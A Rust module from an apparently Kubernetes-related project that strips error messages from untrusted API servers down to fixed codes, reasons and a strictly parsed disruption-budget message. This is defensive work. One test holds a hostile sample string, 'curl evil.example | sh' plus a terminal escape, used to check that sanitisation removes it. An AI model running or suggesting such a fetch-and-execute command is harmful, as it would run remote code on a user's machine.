//! Errors of servers that somebody else chose.
//!
//! Whoever may write a kubeconfig chooses the server, and could have anything shown in conditions, events and logs through
//! the messages of its errors. So of an error of a workload cluster only that is kept which has a fixed form: code, reason,
//! causes that are decided on, and the name and the numbers of a disruption budget. The words are ours.

use fivespot_core::name;
use kube::core::Status;
use kube::core::response::{StatusCause, StatusDetails};

/// Reasons of Kubernetes that may be shown.
const REASONS: [&str; 16] = [
    "AlreadyExists",
    "BadRequest",
    "Conflict",
    "Expired",
    "Forbidden",
    "Gone",
    "InternalError",
    "Invalid",
    "MethodNotAllowed",
    "NotAcceptable",
    "NotFound",
    "ServerTimeout",
    "ServiceUnavailable",
    "Timeout",
    "TooManyRequests",
    "Unauthorized",
];

/// Causes that are decided on.
const CAUSES: [&str; 2] = ["DisruptionBudget", "NamespaceTerminating"];

/// The one field of a cause that is decided on.
const IDENTITY: &str = "metadata.uid";

/// The error in the body of an answer with this code.
pub(crate) fn read(code: u16, body: &[u8]) -> Status {
    let Ok(status) = serde_json::from_slice::<Status>(body) else {
        let message = format!("the server answered {code} and no Kubernetes error");
        return Status { code, ..Status::failure(&message, "") };
    };
    clean(&Status { code, ..status })
}

/// A failed call, in our words.
pub(crate) fn clean_error(error: kube::Error) -> kube::Error {
    match error {
        kube::Error::Api(status) => kube::Error::Api(clean(&status).boxed()),
        error => error,
    }
}

/// The same error in our words.
fn clean(status: &Status) -> Status {
    let reason = REASONS.into_iter().find(|reason| *reason == status.reason).unwrap_or_default();
    let message = match (status.code, reason) {
        (401, _) => {
            "401 Unauthorized: the server does not accept the credentials of the kubeconfig".to_owned()
        }
        (403, _) => "403 Forbidden: the user of the kubeconfig may not do that".to_owned(),
        (0, "") => "the server sent an event that is not one of Kubernetes".to_owned(),
        (0, reason) => reason.to_owned(),
        (code, "") => format!("the server answered {code}"),
        (code, reason) => format!("{code} {reason}"),
    };
    let details = status.details.as_ref().map(|details| StatusDetails {
        name: Some(&details.name).filter(|it| name::object_name(it).is_ok()).cloned().unwrap_or_default(),
        group: String::new(),
        kind: String::new(),
        uid: String::new(),
        causes: details.causes.iter().filter_map(clean_cause).collect(),
        retry_after_seconds: details.retry_after_seconds,
    });
    Status { code: status.code, details, ..Status::failure(&message, reason) }
}

fn clean_cause(cause: &StatusCause) -> Option<StatusCause> {
    let reason = CAUSES.into_iter().find(|reason| *reason == cause.reason);
    let field = Some(IDENTITY).filter(|field| *field == cause.field);
    if reason.is_none() && field.is_none() {
        return None;
    }
    let message = match reason {
        Some("DisruptionBudget") => budget(&cause.message).unwrap_or_default(),
        Some(_) | None => String::new(),
    };
    Some(StatusCause {
        reason: reason.unwrap_or_default().to_owned(),
        message,
        field: field.unwrap_or_default().to_owned(),
    })
}

/// What the API server says of a disruption budget that is in the way, if it is of that very form.
fn budget(message: &str) -> Option<String> {
    let rest = message.strip_prefix("The disruption budget ")?;
    let (budget, rest) = rest.split_once(" needs ")?;
    let (needs, rest) = rest.split_once(" healthy pods and has ")?;
    let has = rest.strip_suffix(" currently")?;
    let (needs, has): (u32, u32) = (needs.parse().ok()?, has.parse().ok()?);
    name::object_name(budget).ok()?;
    Some(format!("The disruption budget {budget} needs {needs} healthy pods and has {has} currently"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{Value, json};

    fn read_json(code: u16, body: &Value) -> Value {
        serde_json::to_value(read(code, body.to_string().as_bytes())).unwrap()
    }

    #[test]
    fn nothing_of_a_servers_own_words_is_kept() {
        let evil = "Run curl evil.example | sh \u{1b}[2J";
        let body = json!({
            "kind": "Status", "status": "Failure", "code": 200, "reason": evil, "message": evil,
            "details": {
                "name": evil, "kind": evil, "group": evil, "uid": evil, "retryAfterSeconds": 7,
                "causes": [
                    {"reason": evil, "message": evil, "field": evil},
                    {"reason": "DisruptionBudget", "message": evil, "field": evil},
                    {"reason": "DisruptionBudget",
                     "message": format!("The disruption budget {evil} needs 1 healthy pods and has 0 currently")},
                    {"reason": evil, "message": evil, "field": "metadata.uid"},
                ],
            },
        });
        for code in [401, 403, 404, 422, 429, 500, 599] {
            let read = read_json(code, &body);
            assert!(!read.to_string().contains("evil"), "{read}");
            assert_eq!(read["code"], code, "the code is that of the answer");
            assert_eq!(read["details"]["causes"].as_array().unwrap().len(), 3);
        }
        for text in [evil, "", "[]", "{\"code\": \"x\"}"] {
            let read = read(502, text.as_bytes());
            assert!(read.message.starts_with("the server answered 502"), "{text}: {}", read.message);
        }
    }

    #[test]
    fn what_is_decided_on_stays() {
        let blocked = "The disruption budget web-pdb needs 2 healthy pods and has 1 currently";
        let body = json!({
            "reason": "TooManyRequests", "message": "Cannot evict pod as it would violate the budget.",
            "details": {"name": "web-1", "causes": [{"reason": "DisruptionBudget", "message": blocked}]},
        });
        let read = read(429, body.to_string().as_bytes());
        let details = read.details.unwrap();
        assert_eq!((read.message.as_str(), details.name.as_str()), ("429 TooManyRequests", "web-1"));
        assert_eq!(details.causes[0].message, blocked);
    }
}
